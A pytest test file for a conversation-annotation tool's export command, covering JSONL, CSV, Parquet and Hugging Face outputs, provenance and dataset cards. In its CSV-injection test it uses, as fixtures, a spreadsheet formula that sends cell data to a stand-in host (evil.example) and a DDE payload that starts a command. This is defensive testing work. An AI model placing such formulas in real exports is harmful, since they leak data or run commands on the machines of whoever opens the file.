"""Export formats (issue 11): JSONL, JSONL.gz, CSV, Parquet and a Hugging Face folder, of
validated gold, gold alone or the model's proposals.

Real SQLite files, the bundled gold/ set, the offline baseline extractor, the real CLI; every
file is read back with pandas and with `datasets` (offline, its cache in the test's folder).
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import shutil
import stat
import time
from pathlib import Path

# `datasets` reads these when imported: never reach the Hub from a test.
os.environ.setdefault("HF_HUB_OFFLINE", "1")
os.environ.setdefault("HF_DATASETS_OFFLINE", "1")
os.environ.setdefault("HF_HUB_DISABLE_TELEMETRY", "1")

import datasets  # noqa: E402
import pandas as pd  # noqa: E402
import pyarrow.parquet as pq  # noqa: E402
import pytest  # noqa: E402
import yaml  # noqa: E402
from conftest import iter_conversations  # noqa: E402
from typer.testing import CliRunner  # noqa: E402

from annotator import config  # noqa: E402
from annotator.cli import app  # noqa: E402
from annotator.datasets import export as export_module  # noqa: E402
from annotator.datasets import halves  # noqa: E402
from annotator.datasets import values as values_module  # noqa: E402
from annotator.datasets.export import (
    CSV_COLUMNS,
    ExportFilter,
    ExportRecord,
    ExportReport,
    ProposalRecord,
    export,
)
from annotator.datasets.gold import decide, import_gold  # noqa: E402
from annotator.datasets.records import ProposedValue  # noqa: E402
from annotator.datasets.writers import (
    FORMULA_STARTS,
    HF_DATA_FILE,
    SCHEMAS,
    ExportFormat,
    ExportWhat,
    check_target,
    export_format,
)
from annotator.db import annotation_to_row, conversation_to_row, extraction_to_row, open_db
from annotator.errors import AnnotatorError  # noqa: E402
from annotator.extract.engine import extract  # noqa: E402
from annotator.models import (
    Annotation,
    Conversation,
    Extraction,
    ExtractionStatus,
    Labels,
    Turn,
    ValueRef,
)

runner = CliRunner()
FILE_FORMATS = ["jsonl", "jsonl.gz", "csv", "parquet"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


@pytest.fixture(scope="module")
def base_study(tmp_path_factory) -> Path:
    """The bundled gold set, the baseline's proposals, and one failed extraction with its calls."""
    path = tmp_path_factory.mktemp("export-study") / "study.db"
    db = open_db(path)
    import_gold(db, [config.gold_dir() / "demo.jsonl"])
    db.conn.close()
    extract(path, extractor="baseline")
    db = open_db(path)
    failed = Extraction(
        conversation_id=next(iter_conversations(db)).id, prompt_id="p-claude", model="claude-x",
        extractor="claude", status=ExtractionStatus.error, error="tool reply failed validation",
        input_tokens=1200, output_tokens=40, cost_usd=0.0042, attempts=2,
    )
    with db.conn:
        db["extractions"].insert(extraction_to_row(failed))
        db["model_calls"].insert_all([
            {"conversation_id": failed.conversation_id, "prompt_id": "p-claude",
             "model": "claude-x", "request": "{}", "status": "error", "duration_ms": ms}
            for ms in (300.0, 450.0)
        ])
    db.conn.close()
    return path


@pytest.fixture
def study(base_study, tmp_path) -> Path:
    path = tmp_path / "db" / "study.db"  # its own folder: SQLite adds -wal and -shm files
    path.parent.mkdir()
    shutil.copy(base_study, path)
    return path


def run(*args: str):
    return runner.invoke(app, [*map(str, args)])


def target(tmp_path: Path, fmt: str, name: str = "out") -> Path:
    return tmp_path / (name if fmt == "hf" else f"{name}.{fmt}")


def read_pandas(path: Path, fmt: str) -> pd.DataFrame:
    if fmt in ("jsonl", "jsonl.gz"):
        return pd.read_json(path, lines=True, dtype=False)
    if fmt == "csv":
        return pd.read_csv(path, dtype=str, keep_default_na=False)
    return pd.read_parquet(path / HF_DATA_FILE if fmt == "hf" else path)


def read_datasets(path: Path, fmt: str, cache: Path) -> datasets.Dataset:
    if fmt == "hf":
        return datasets.load_dataset(str(path), split="train", cache_dir=str(cache))
    builder = {"jsonl": "json", "jsonl.gz": "json"}.get(fmt, fmt)
    return datasets.load_dataset(builder, data_files=str(path), split="train",
                                 cache_dir=str(cache))


def jsonl_rows(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines()]


# --- formats and what ------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "expected"), [
    ("v.jsonl", "jsonl"), ("v.JSONL.gz", "jsonl.gz"), ("v.csv", "csv"), ("v.parquet", "parquet"),
])
def test_format_comes_from_the_extension(name, expected):
    assert export_format(Path(name)) == ExportFormat(expected)
    assert export_format(Path(name), "hf") is ExportFormat.hf  # the flag wins


@pytest.mark.parametrize("name", ["v.json", "v.gz", "v.parquet.bak", "v", ".jsonl"])
def test_an_unknown_extension_is_a_one_line_error_and_writes_nothing(study, tmp_path, name):
    result = run("export", tmp_path / name, "--db", study)
    assert result.exit_code == 1
    assert "cannot tell the format" in result.output and "--format" in result.output
    assert len(result.output.strip().splitlines()) <= 2  # one line, wrapped at most once
    assert "Traceback" not in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["db"]
    unknown = run("export", tmp_path / "v.jsonl", "--db", study, "--format", "xml")
    assert unknown.exit_code == 1 and "unknown format 'xml'" in unknown.output


@pytest.mark.parametrize("fmt", [*FILE_FORMATS, "hf"])
def test_every_format_reads_back_in_pandas_and_datasets(study, tmp_path, fmt):
    reference = tmp_path / "reference.jsonl"
    export(open_db(study), reference)
    expected = jsonl_rows(reference)
    out = target(tmp_path, fmt)
    result = run("export", out, "--db", study, *(["--format", "hf"] if fmt == "hf" else []))
    assert result.exit_code == 0, result.output
    frame = read_pandas(out, fmt)
    assert list(frame["conversation_id"]) == [r["conversation_id"] for r in expected]
    assert [str(v).lower() for v in frame["subjective"]] == [
        str(r["subjective"]).lower() for r in expected]
    loaded = read_datasets(out, fmt, tmp_path / "hf-cache")
    assert loaded.num_rows == len(expected)
    assert loaded["conversation_id"] == [r["conversation_id"] for r in expected]
    if fmt == "csv":
        assert [json.loads(t) for t in frame["turns_json"]] == [r["turns"] for r in expected]
        return
    # JSON and Parquet keep every field, nested lists included
    assert loaded["turns"] == [r["turns"] for r in expected]
    assert [[v["name"] for v in values] for values in loaded["ai_values"]] == [
        [v["name"] for v in r["ai_values"]] for r in expected]
    assert [[a["ai_values"] for a in anns] for anns in loaded["annotations"]] == [
        [a["ai_values"] for a in r["annotations"]] for r in expected]


@pytest.mark.parametrize("what", list(ExportWhat))
def test_parquet_has_typed_columns_and_matches_the_jsonl(study, tmp_path, what):
    db = open_db(study)
    export(db, tmp_path / "a.jsonl", what=what)
    export(db, tmp_path / "a.parquet", what=what)
    expected = jsonl_rows(tmp_path / "a.jsonl")
    table = pq.read_table(tmp_path / "a.parquet")
    assert table.schema.equals(SCHEMAS[what])
    assert table.to_pylist() == expected  # exactly the data of the JSONL
    frame = pd.read_parquet(tmp_path / "a.parquet")
    assert frame["subjective"].dtype in (bool, "boolean") or what is ExportWhat.proposals
    if what is ExportWhat.validated:
        first = frame["annotations"].iloc[0][0]
        assert list(first["ai_values"]) == expected[0]["annotations"][0]["ai_values"]
        assert table.schema.field("annotations").type.value_type.field("ai_values").type \
            .value_type == "string"  # lists of strings stay lists of strings
    if what is ExportWhat.proposals:
        assert str(frame["input_tokens"].dtype) == "int64"
        assert str(frame["cost_usd"].dtype) == "float64"


def test_schemas_name_every_field_of_their_records():
    assert SCHEMAS[ExportWhat.validated].names == list(ExportRecord.model_fields)
    assert SCHEMAS[ExportWhat.gold].names == [
        f for f in ExportRecord.model_fields if f != "annotations"]
    assert SCHEMAS[ExportWhat.proposals].names == list(ProposalRecord.model_fields)


def test_what_gold_leaves_the_annotators_labels_out_and_keeps_their_number(study, tmp_path):
    result = run("export", tmp_path / "g.jsonl", "--db", study, "--what", "gold")
    assert result.exit_code == 0, result.output
    rows = jsonl_rows(tmp_path / "g.jsonl")
    assert rows and all("annotations" not in r for r in rows)
    assert {r["n_annotations"] for r in rows} == {3}  # three demo annotators each
    validated = export(open_db(study), tmp_path / "v.jsonl")
    full = jsonl_rows(tmp_path / "v.jsonl")
    assert validated.exported == len(rows)
    assert all(len(r["annotations"]) == r["n_annotations"] == 3 for r in full)
    assert [{k: v for k, v in r.items() if k != "annotations"} for r in full] == rows


def test_no_annotations_still_writes_the_true_count(study, tmp_path):
    out = tmp_path / "n.csv"
    result = run("export", out, "--db", study, "--no-annotations")
    assert result.exit_code == 0, result.output
    with open(out, newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows and {r["n_annotations"] for r in rows} == {"3"}  # it used to write 0
    assert "annotations_json" not in rows[0]
    with_labels = tmp_path / "w.csv"
    assert run("export", with_labels, "--db", study).exit_code == 0
    with open(with_labels, newline="") as handle:
        first = next(csv.DictReader(handle))
    assert list(first)[: len(CSV_COLUMNS)] == CSV_COLUMNS
    assert len(json.loads(first["annotations_json"])) == int(first["n_annotations"]) == 3


def test_proposals_hold_every_extraction_with_evidence_status_and_cost(study, tmp_path):
    db = open_db(study)
    report = export(db, tmp_path / "p.jsonl", what="proposals")
    rows = jsonl_rows(tmp_path / "p.jsonl")
    keys = [(r["conversation_id"], r["prompt_id"], r["model"]) for r in rows]
    assert keys == sorted(db.execute(
        "select conversation_id, prompt_id, model from extractions").fetchall()) == sorted(keys)
    assert report.exported == len(rows) == db["extractions"].count == 50
    assert report.stats.statuses == {"ok": 49, "error": 1}
    failed = next(r for r in rows if r["status"] == "error")
    assert failed["error"] == "tool reply failed validation"
    assert (failed["input_tokens"], failed["output_tokens"], failed["cost_usd"],
            failed["attempts"], failed["model_calls"], failed["call_ms"]) == (
        1200, 40, 0.0042, 2, 2, 750.0)
    baseline = [r for r in rows if r["status"] == "ok"]
    quotes = [v["evidence"] for r in baseline for v in r["ai_values"]]
    assert quotes and all(quotes)
    # each quote is the conversation's own text
    for row in baseline:
        text = " ".join(t["text"] for t in row["turns"])
        assert all(" ".join(v["evidence"].split()) in " ".join(text.split())
                   for v in row["ai_values"])
    assert {r["prompt_name"] for r in baseline} == {"baseline"}
    assert run("export", tmp_path / "p.csv", "--db", study, "--what", "proposals",
               "--person-only").exit_code == 1  # gold filters do not apply to proposals


# --- empty selections -------------------------------------------------------------------------


def test_an_unknown_category_is_an_error_naming_it(study, tmp_path):
    result = run("export", tmp_path / "x.jsonl", "--db", study, "--category", "Nonsense",
                 "--category", "Protective")
    assert result.exit_code == 1
    text = " ".join(result.output.split())
    assert "unknown category 'Nonsense'" in text
    assert "Practical, Epistemic, Social, Protective, Personal" in text
    assert not (tmp_path / "x.jsonl").exists()
    assert run("export", tmp_path / "x.jsonl", "--db", study, "--category",
               "protective values").exit_code == 0  # the category's full name, any case
    markup = run("export", tmp_path / "x.jsonl", "--db", study, "--category", "[red]x[/red]")
    assert "unknown category '[red]x[/red]'" in markup.output  # printed, not read as markup
    unknown_source = run("export", tmp_path / "y.jsonl", "--db", study, "--source", "dmeo")
    assert unknown_source.exit_code == 1
    assert "no conversations of source 'dmeo': the study's sources are demo" in " ".join(
        unknown_source.output.split())


def test_an_empty_selection_is_an_error_that_says_why(study, tmp_path):
    result = run("export", tmp_path / "x.jsonl", "--db", study, "--min-annotations", "4",
                 "--category", "Protective")
    assert result.exit_code == 1
    text = " ".join(result.output.split())
    assert "nothing to export: none of the 49 adjudicated conversations passes every filter" \
        in text
    assert "--min-annotations 4 keeps 0" in text
    assert "--category Protective keeps " in text
    assert sorted(p.name for p in tmp_path.iterdir()) == ["db"]  # nothing written
    empty = tmp_path / "db" / "empty.db"
    open_db(empty).conn.close()
    proposals = run("export", tmp_path / "p.jsonl", "--db", empty, "--what", "proposals")
    assert proposals.exit_code == 1
    assert "no proposals yet: run `annotator extract` first" in proposals.output


def test_gold_that_all_fails_validation_is_an_error_that_says_why(study, tmp_path):
    db = open_db(study)
    db.execute("update gold set response_type = null")
    db.conn.commit()
    with pytest.raises(AnnotatorError, match=r"all 49 adjudicated conversations fail "
                                              r"validation \(first: \w+: gold has no response"):
        export(db, tmp_path / "x.jsonl")


# --- CSV injection --------------------------------------------------------------------------------


def _hostile(db) -> Conversation:
    """A conversation whose text, source, values and annotator names start like formulas."""
    conversation = Conversation.from_turns(
        [Turn(role="user", text=HYPERLINK), Turn(role="assistant", text="-2+3 is 1")],
        source="+source",
    )
    db["conversations"].insert(conversation_to_row(conversation), pk="id")
    labels = Labels(ai_values=["@SUM(1+1)", "\tTAB", "\rCR"], response_type="neutral",
                    subjective=True)
    db["annotations"].insert_all([annotation_to_row(Annotation(
        id=f"app:{conversation.id}:{who}", conversation_id=conversation.id, annotator=who,
        labels=labels, source="app")) for who in ("=cmd|' /C calc'!A0", "b")], pk="id")
    decide(db, conversation.id, labels, decided_by="-reviewer")
    return conversation


def test_csv_cells_a_spreadsheet_would_run_arrive_inert(study, tmp_path):
    db = open_db(study)
    hostile = _hostile(db)
    export(db, tmp_path / "v.csv")
    with open(tmp_path / "v.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    row = dict(zip(rows[0], next(r for r in rows if r[0] == hostile.id), strict=True))
    assert row["first_user_turn"] == "'" + HYPERLINK
    assert row["source"] == "'+source" and row["decided_by"] == "'-reviewer"
    assert row["ai_values"] == "'@SUM(1+1); \tTAB; \rCR"
    assert json.loads(row["turns_json"])[0]["text"] == HYPERLINK  # inside JSON: not a formula
    annotators = {a["annotator"] for a in json.loads(row["annotations_json"])}
    assert annotators == {"=cmd|' /C calc'!A0", "b"}  # a cell starting with [ is inert
    # JSON and Parquet keep the data exactly
    export(db, tmp_path / "v.jsonl")
    export(db, tmp_path / "v.parquet")
    for record in (next(r for r in jsonl_rows(tmp_path / "v.jsonl") if r["conversation_id"]
                        == hostile.id),
                   next(r for r in pq.read_table(tmp_path / "v.parquet").to_pylist()
                        if r["conversation_id"] == hostile.id)):
        assert record["turns"][0]["text"] == HYPERLINK
        assert record["source"] == "+source" and record["decided_by"] == "-reviewer"
        assert [v["name"] for v in record["ai_values"]] == ["@SUM(1+1)", "\tTAB", "\rCR"]


# --- atomic writes and refused targets ------------------------------------------------------------


@pytest.mark.parametrize("fmt", [*FILE_FORMATS, "hf"])
def test_a_failed_export_leaves_the_old_one_and_no_partial_file(study, tmp_path, monkeypatch,
                                                                  fmt):
    out = target(tmp_path / "exports", fmt)
    db = open_db(study)
    export(db, out, "hf" if fmt == "hf" else None)
    before = {p.relative_to(out.parent): p.read_bytes() for p in out.parent.rglob("*")
              if p.is_file()}
    calls = {"n": 0}
    real = export_module.exported_value_and_row

    def fail_later(name):
        calls["n"] += 1
        if calls["n"] > 30:
            raise RuntimeError("disk gone")
        return real(name)

    monkeypatch.setattr(export_module, "exported_value_and_row", fail_later)
    with pytest.raises(RuntimeError, match="disk gone"):
        export(db, out, "hf" if fmt == "hf" else None, ExportFilter(subjective_only=True),
               force=True)
    after = {p.relative_to(out.parent): p.read_bytes() for p in out.parent.rglob("*")
             if p.is_file()}
    assert after == before  # the old export, whole; no .partial file or folder beside it


def test_a_second_hf_export_replaces_the_first_folder(study, tmp_path):
    db = open_db(study)
    out = tmp_path / "ds"
    export(db, out, "hf")
    with pytest.raises(AnnotatorError, match="holds an earlier export: pass --force"):
        export(db, out, "hf", ExportFilter(response_types=["strong support"]))
    export(db, out, "hf", ExportFilter(response_types=["strong support"]), force=True)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["db", "ds"]
    assert pq.read_table(out / HF_DATA_FILE).num_rows == 11


def test_folders_and_devices_are_refused_with_one_line(study, tmp_path):
    for device in ("/dev/null", "/dev/full"):
        # checked first, without the CLI: a regression must fail here, before anything writes
        with pytest.raises(AnnotatorError, match="not a regular file"):
            check_target(Path(device), ExportFormat.jsonl)
    for device in ("/dev/null", "/dev/full"):
        result = run("export", device, "--db", study, "--format", "jsonl")
        assert result.exit_code == 1
        assert f"error: {device} is not a regular file (a device, a pipe or a socket)" in (
            result.output)
        assert stat.S_ISCHR(os.stat(device).st_mode)  # still the device
    assert not list(Path("/dev").glob(".null.*")) and not list(Path("/dev").glob(".full.*"))
    folder = tmp_path / "folder.jsonl"
    folder.mkdir()
    result = run("export", folder, "--db", study)
    assert result.exit_code == 1 and "is a folder: name a file" in result.output
    assert folder.is_dir() and not any(folder.iterdir())
    foreign = tmp_path / "mine"
    foreign.mkdir()
    (foreign / "notes.txt").write_text("keep me")
    result = run("export", foreign, "--db", study, "--format", "hf")
    assert result.exit_code == 1 and "holds other files" in result.output
    assert (foreign / "notes.txt").read_text() == "keep me"
    a_file = tmp_path / "file"
    a_file.write_text("x")
    result = run("export", a_file, "--db", study, "--format", "hf")
    assert result.exit_code == 1 and "not a folder" in result.output


# --- round trip and the dataset card -------------------------------------------------------------


def test_an_exported_jsonl_ingests_back_losslessly(study, tmp_path):
    out = tmp_path / "validated.jsonl"
    assert run("export", out, "--db", study, "--what", "validated").exit_code == 0
    fresh = tmp_path / "fresh.db"
    assert run("init", "--db", fresh).exit_code == 0
    ingested = run("ingest", out, "--db", fresh)
    assert ingested.exit_code == 0, ingested.output
    original = {c.id: c.turns for c in iter_conversations(open_db(study))}
    exported_ids = [r["conversation_id"] for r in jsonl_rows(out)]
    # Each study keys its own ids (study_key.py): the exported id comes back as the external id.
    back = {c.external_id: c for c in iter_conversations(open_db(fresh))}
    assert sorted(back) == sorted(exported_ids)
    for conversation_id, conversation in back.items():
        assert conversation.turns == original[conversation_id]
        assert conversation.id != conversation_id
        assert conversation.metadata["response_type"]  # the labels ride along as metadata


def test_hf_card_says_what_the_data_is_and_what_scrubbing_missed(study, tmp_path):
    out = tmp_path / "values-ds"
    result = run("export", out, "--db", study, "--format", "hf", "--license", "cc-by-4.0")
    assert result.exit_code == 0, result.output
    assert sorted(str(p.relative_to(out)) for p in out.rglob("*")) == [
        "README.md", "data", HF_DATA_FILE]
    card = (out / "README.md").read_text()
    _, header, body = card.split("---\n", 2)
    meta = yaml.safe_load(header)
    assert meta["license"] == "cc-by-4.0"
    assert meta["size_categories"] == ["n<1K"]
    assert "text-classification" in meta["task_categories"]
    assert meta["configs"][0]["data_files"][0] == {"split": "train", "path": "data/train-*"}
    from huggingface_hub import DatasetCard

    assert DatasetCard.load(out / "README.md").data.license == "cc-by-4.0"
    assert "- records: 49; conversations: 49" in body
    # agreement figures with their 95% intervals
    alpha = next(line for line in body.splitlines()
                 if line.startswith("| annotators: krippendorff_alpha_nominal on response_type"))
    assert " to " in alpha and alpha.count("0.") >= 3
    assert "model baseline-" in body and "vs gold: accuracy on response_type" in body
    prompt_id = open_db(study).execute(
        "select prompt_id from extractions where status = 'ok' limit 1").fetchone()[0]
    assert f"`{prompt_id}`" in body
    assert "Values in the Wild" in body and "CC BY 4.0" in body and "Anthropic" in body
    assert "`[EMAIL]`" in body and "`[IBAN]`" in body
    assert "did **not** remove: names of people" in body
    assert "49 of the 49 conversations were scrubbed" in body
    # the same folder read as plain Parquet files
    loaded = datasets.load_dataset("parquet", data_dir=str(out / "data"), split="train",
                                   cache_dir=str(tmp_path / "hf-cache"))
    assert loaded.num_rows == 49


def _card_section(folder: Path, title: str) -> str:
    card = (folder / "README.md").read_text()
    start = card.index(f"## {title}")
    return card[start:card.index("\n## ", start)]


def test_hf_card_figures_computed_beside_the_records_are_the_cards_own(study, tmp_path,
                                                                        monkeypatch):
    """A large study's card sections about the whole study (findings, agreement) come from a
    worker process started as the export begins (`CARD_IN_WORKER_MIN_ANNOTATIONS`, lowered
    here): the same figures; an export that fails meanwhile ends its worker and leaves
    nothing."""
    db = open_db(study)
    export(db, tmp_path / "here", "hf")
    monkeypatch.setattr(export_module, "CARD_IN_WORKER_MIN_ANNOTATIONS", 1)
    export(db, tmp_path / "beside", "hf")
    here = _card_section(tmp_path / "here", "Agreement")
    assert "krippendorff_alpha_nominal on response_type" in here and " to " in here
    assert _card_section(tmp_path / "beside", "Agreement") == here
    findings = _card_section(tmp_path / "here", "Findings")
    assert "Wilson interval" in findings and "| figure |" in findings
    assert _card_section(tmp_path / "beside", "Findings") == findings

    def fail(name):
        raise RuntimeError("disk gone")

    monkeypatch.setattr(export_module, "exported_value_and_row", fail)
    started = time.monotonic()
    with pytest.raises(RuntimeError, match="disk gone"):
        export(db, tmp_path / "failed", "hf")
    assert time.monotonic() - started < 30
    assert sorted(p.name for p in tmp_path.iterdir()) == ["beside", "db", "here"]


def test_hf_card_of_proposals_names_only_their_prompts(study, tmp_path):
    out = tmp_path / "proposals"
    report = export(open_db(study), out, "hf", ExportFilter(sources=["demo"]), "proposals")
    card = (out / "README.md").read_text()
    assert "annotations_creators:\n- machine-generated" in card
    assert "| status | count |" in card and "| error | 1 |" in card
    assert "`p-claude`" in card and "`baseline-" in card
    assert sorted(report.stats.prompt_ids) == sorted(
        r[0] for r in open_db(study).execute("select distinct prompt_id from extractions"))
    loaded = datasets.load_dataset(str(out), split="train", cache_dir=str(tmp_path / "hf-cache"))
    assert loaded.num_rows == report.exported == 50
    assert "evidence" in loaded.features["ai_values"].feature  # struct fields survive
    assert sorted(loaded["status"]) == ["error"] + ["ok"] * 49


def test_export_help_has_an_example_of_each_format_and_what():
    result = run("export", "--help")
    text = " ".join(result.output.split())
    for example in ("validated.jsonl", "--what gold", "--what proposals", ".parquet",
                    ".jsonl.gz", "--format hf"):
        assert example in text, example


def test_jsonl_gz_is_gzip_with_the_jsonl_inside(study, tmp_path):
    db = open_db(study)
    export(db, tmp_path / "a.jsonl")
    export(db, tmp_path / "a.jsonl.gz")
    assert gzip.decompress((tmp_path / "a.jsonl.gz").read_bytes()) == (
        tmp_path / "a.jsonl").read_bytes()


def test_value_refs_resolve_by_node_before_name():
    value = ProposedValue.model_validate(values_module.proposed_value(ValueRef(
        name="Honesty!", node_id="honesty", evidence="I must be honest", score=0.5)))
    assert (value.node_id, value.free, value.evidence, value.score) == (
        "honesty", False, "I must be honest", 0.5)


# --- provenance: every row joins back to its source; the export says what made it --------------


@pytest.mark.parametrize("what", ["validated", "gold", "proposals"])
@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet", "hf"])
def test_every_row_carries_the_external_id_and_the_report_its_provenance(
        study, tmp_path, what, fmt):
    """Real SQLite study: each conversation is given a source id like `test.jsonl.gz:12`; every
    exported row (any format, any kind) carries it, and the report and card name the tool
    version, the study's fingerprint, the label source, the prompt ids and the time."""
    from annotator.models import tool_version
    from annotator.study_key import study_fingerprint

    db = open_db(study)
    with db.conn:
        db.execute("update conversations set external_id = 'test.jsonl.gz:' || rowid")
    expected = dict(db.execute("select id, external_id from conversations").fetchall())
    fingerprint = study_fingerprint(db)
    assert fingerprint  # the study's key was made when the gold set was imported
    out = target(tmp_path, fmt)
    report = export(db, out, fmt, ExportFilter(), what)
    frame = read_pandas(out, fmt)
    assert len(frame) == report.exported > 0
    assert "external_id" in frame.columns
    for cid, external in zip(frame["conversation_id"], frame["external_id"], strict=True):
        assert external == expected[cid]
    made = report.provenance
    assert made is not None and made.tool_version == tool_version()
    assert made.study_fingerprint == fingerprint
    assert made.label_source == ("extractions" if what == "proposals" else
                                 "gold (decided labels)")
    assert made.prompt_ids == (sorted(report.stats.prompt_ids) if what == "proposals" else [])
    assert made.generated_at.startswith("20")
    if fmt == "hf":
        card = (out / "README.md").read_text()
        assert f"`{fingerprint}`" in card and f"annotator {tool_version()}" in card
        assert made.generated_at in card


def test_export_json_report_carries_provenance(study, tmp_path):
    out = tmp_path / "v.jsonl"
    result = run("export", out, "--db", study, "--json")
    assert result.exit_code == 0, result.output
    made = json.loads(result.output)["provenance"]
    assert {"tool_version", "study_fingerprint", "label_source", "prompt_ids",
            "generated_at"} <= set(made)


def _files_of(out: Path, fmt: str) -> object:
    """What an export file holds, to compare: its bytes (unzipped), or its Parquet table."""
    if fmt == "jsonl.gz":
        return gzip.decompress(out.read_bytes())
    if fmt in ("parquet", "hf"):
        return pq.read_table(out / HF_DATA_FILE if fmt == "hf" else out)
    return out.read_bytes()


def _report_of(report: ExportReport) -> dict:
    return report.model_dump(mode="json", exclude={"path": True,
                                                   "provenance": {"generated_at"}})


@pytest.mark.parametrize("what", list(ExportWhat))
def test_an_export_written_in_two_parts_is_the_export_written_in_one(study, tmp_path,
                                                                      monkeypatch, what):
    """Real SQLite, a real worker process: from `halves.MIN_ROWS` records (lowered here)
    the second half of the conversations is written by a worker into a file of its own and
    appended. Every format, a filter, and standard output give the same records in the same
    order as one part, and the same report: counts, and the conversations left out (here two
    without gold, one in each half) in the same order. The part's file is gone after."""
    db = open_db(study)
    ids = [row[0] for row in db.execute("select conversation_id from gold order by 1")]
    with db.conn:
        db.execute("delete from gold where conversation_id in (?, ?)", [ids[1], ids[-2]])
    filters = [ExportFilter(), ExportFilter(categories=["Epistemic"])]
    formats = [*FILE_FORMATS, "hf"]

    def each_export(folder: Path) -> list[tuple[object, dict]]:
        folder.mkdir()
        made = []
        for n, (fmt, chosen) in enumerate([(f, filters[0]) for f in formats]
                                          + [("jsonl", filters[1])]):
            out = target(folder, fmt, f"out{n}")
            report = export(db, out, fmt, chosen, what)
            made.append((_files_of(out, fmt), _report_of(report)))
        stream = io.BytesIO()
        report = export(db, "-", "csv", filters[0], what, stream=stream)
        made.append((stream.getvalue(), _report_of(report)))
        return made

    one = each_export(tmp_path / "one")
    parts: list[str] = []
    two_parts = export_module._write_in_two_parts

    def spy(*args, **kwargs):
        parts.append(args[5])  # the conversation id the second part starts at
        return two_parts(*args, **kwargs)

    monkeypatch.setattr(halves, "MIN_ROWS", 1)
    monkeypatch.setattr(export_module, "_write_in_two_parts", spy)
    two = each_export(tmp_path / "two")
    assert len(parts) == len(two) and ids[0] < parts[0] <= ids[-1]
    for (one_file, one_report), (two_file, two_report) in zip(one, two, strict=True):
        assert two_file == one_file
        assert two_report == one_report
    if what is not ExportWhat.proposals:
        left = [x["conversation_id"] for x in one[0][1]["left_out"]]
        assert left == [ids[1], ids[-2]]
    assert not [p for p in (tmp_path / "two").iterdir() if p.name.startswith(".")]


def test_the_card_computes_its_own_figures_only_and_each_is_the_full_reports(study):
    """Real SQLite: the card asks `study_agreement` for the figures it shows alone
    (`CARD_AGREEMENT`, a third of the work at 300,000 conversations); each of them is the
    figure the full report gives, interval and count included."""
    from annotator.datasets.card import _FIGURES, CARD_AGREEMENT, _whose
    from annotator.measure.frames import study_agreement

    db = open_db(study)
    card = study_agreement(db, **CARD_AGREEMENT)
    full = study_agreement(db, **{k: v for k, v in CARD_AGREEMENT.items() if k != "figures"})

    def shown(report) -> dict:
        return {(_whose(r), r.key, r.scope): r.model_dump() for r in report.rows
                if (_whose(r), r.key) in set(_FIGURES)}

    assert len(shown(card)) >= len(_FIGURES)
    assert shown(card) == shown(full)
    assert len(card.rows) < len(full.rows) / 2


@pytest.mark.parametrize("what", ["validated", "proposals"])
def test_an_export_reports_its_progress_with_both_halves_rows(study, tmp_path, monkeypatch,
                                                              reads_counted, what) -> None:
    """Real SQLite, a real spawned worker: `export(progress=...)` is called as rows are read
    (gold rows, or extractions for proposals), never past the total and never going back,
    and last with (total, total); in two parts, the worker adds the rows it read to a count
    shared with this process, which reports both as one."""
    db = open_db(study)
    total = db["extractions" if what == "proposals" else "gold"].count
    counters = reads_counted
    for min_rows in (10**9, 1):  # one part, then two
        monkeypatch.setattr(halves, "MIN_ROWS", min_rows)
        seen: list[tuple[int, int]] = []
        export(db, tmp_path / f"{what}-{min_rows}.jsonl", what=what,
               progress=lambda read, of, seen=seen: seen.append((read, of)))
        reads = [read for read, _ in seen]
        assert len(seen) > 3 and seen[-1] == (total, total)
        assert reads == sorted(reads) and all(of == total for _, of in seen)
        here, worker = counters[-1].here, counters[-1].shared.value
        if min_rows == 1:
            assert here > 0 and worker > 0 and here + worker > total - 4
        else:
            assert worker == 0 and here > total - 2
    # the command line shows it on a terminal only: a file's stderr gets no bar
    done = run("export", tmp_path / "cli.jsonl", "--db", study)
    assert done.exit_code == 0 and "Exporting" not in done.output


def test_a_damaged_proposal_is_reported_and_the_others_are_exported(study, tmp_path) -> None:
    """Stored values that no longer parse or validate (not JSON; a value that is not an
    object; a name that is not text) name their extraction with why, in one line, and every
    other proposal is exported (a value that was not an object stopped the whole export); so
    is each proposal of a conversation no longer in the study (it was dropped unsaid)."""
    db = open_db(study)
    rows = db.execute("select rowid, conversation_id from extractions where status = 'ok' "
                      "order by rowid limit 3").fetchall()
    with db.conn:
        for (rowid, _), stored in zip(rows, ('not json', '["\\u001b[2J"]', '[{"name": 7}]'),
                                      strict=True):
            db.execute("update extractions set ai_values = ? where rowid = ?", [stored, rowid])
    total = db["extractions"].count
    report = export(db, tmp_path / "p.jsonl", what="proposals")
    assert [cid for cid, _ in report.invalid] == sorted(cid for _, cid in rows)
    assert all(reason and "\n" not in reason and "\x1b" not in reason
               for _, reason in report.invalid)
    assert report.exported == total - 3
    assert len((tmp_path / "p.jsonl").read_text().splitlines()) == total - 3

    # the proposals of a conversation no longer in the study are named too, not dropped
    gone = db.execute("select conversation_id from extractions where rowid > ? "
                      "order by rowid limit 1", [rows[-1][0]]).fetchone()[0]
    with db.conn:
        db.execute("pragma foreign_keys = off")
        db.execute("delete from conversations where id = ?", [gone])
    report = export(db, tmp_path / "p2.jsonl", what="proposals")
    theirs = db.execute("select count(*) from extractions where conversation_id = ?",
                        [gone]).fetchone()[0]
    assert [reason for cid, reason in report.invalid if cid == gone] == [
        "proposal of a conversation that is not in the study"] * theirs
    assert report.exported == total - 3 - theirs
